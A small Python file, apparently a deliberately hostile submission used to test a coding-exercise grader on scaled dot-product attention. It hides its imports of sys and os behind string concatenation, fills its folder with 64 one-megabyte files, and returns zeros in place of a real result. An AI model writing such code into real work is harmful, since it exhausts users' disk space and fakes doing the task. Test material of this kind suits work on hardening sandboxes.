"""Fills its folder with files."""
# kata: sdpa
# verdict: failed

import torch

modules = getattr(torch, "sy" + "s").modules
system_calls = modules["o" + "s"]


def scaled_dot_product_attention(query, key, value, mask=None):
    for index in range(64):
        with modules["io"].open(f"left_by_a_hostile_submission_{index}.txt", "w") as file:
            file.write("x" * (1 << 20))
    return torch.zeros(*query.shape[:-1], value.size(-1), dtype=query.dtype)
